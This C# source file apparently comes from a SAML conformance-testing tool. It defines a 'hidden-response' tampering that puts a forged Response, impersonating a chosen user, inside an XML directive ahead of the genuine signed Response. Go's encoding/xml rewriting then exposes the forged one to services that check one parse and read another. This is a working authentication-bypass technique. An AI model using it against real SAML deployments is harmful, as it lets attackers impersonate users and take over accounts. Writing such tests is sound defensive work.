using Conformance.Saml.Forging;
using Conformance.Saml.Names;
using Conformance.Saml.Potency;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A forged Response in front of the genuine one, which a tokenizer passes over until the message was written and parsed again.</summary>
internal sealed class HiddenResponse(TamperingArguments arguments) : Tampering
{
    private string _hidden = string.Empty;

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "hidden-response",
            "Hides a whole forged Response in a directive before the root, which ends elsewhere once Go's encoding/xml has written it without the comment in it: "
            + "who verifies what was read first and reads what was written finds the forged one.",
            "The IdP's signature verifies over the untouched genuine element, and nothing else is seen; the first element of what is written is the forged Response.",
            [Impersonation.Parameter]),
        arguments => new HiddenResponse(arguments));

    public override string Name => "hidden-response";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        var genuine = SignedPlaces.Genuine(work);
        var forged = Impersonation.Response(target, work);
        Dom.Child(forged, "Assertion", SamlNamespaces.Assertion)!.SetAttribute("ID", work.Context.Ids.Next());
        forged.SetAttribute("ID", work.Context.Ids.Next());
        _hidden = HiddenAssertion.InDirective(forged);
        work.Claim(new HiddenForged(genuine.GetAttribute("ID"), Impersonation.Values(work.Context, target)));
    }

    public override string OnText(string text, Workpiece work)
    {
        var root = text.IndexOf($"<{work.Root.Name}", StringComparison.Ordinal);
        return text[..root] + _hidden + text[root..];
    }
}
